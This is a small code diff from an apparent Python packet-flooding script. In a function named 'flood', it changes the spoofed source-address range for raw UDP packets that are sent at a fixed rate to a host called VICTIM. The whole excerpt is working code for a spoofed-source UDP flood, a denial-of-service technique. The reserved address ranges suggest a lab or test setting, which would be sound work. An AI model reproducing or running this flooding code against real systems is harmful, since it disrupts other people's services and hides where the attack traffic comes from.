@@ -146,7 +146,7 @@ def flood(path, seconds, seed):
         if passed >= seconds:
             break
         while sent < passed * FLOOD_RATE:
-            source = struct.pack("!I", 0x64400000 + generator.getrandbits(22))
+            source = struct.pack("!I", 0xC6130000 + generator.getrandbits(16))
             header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, source, target)
             datagram = struct.pack("!HHHH", generator.randrange(1024, 65536), FLOODED, len(payload) + 8, 0)
             raw.sendto(header + datagram + payload, (VICTIM, 0))
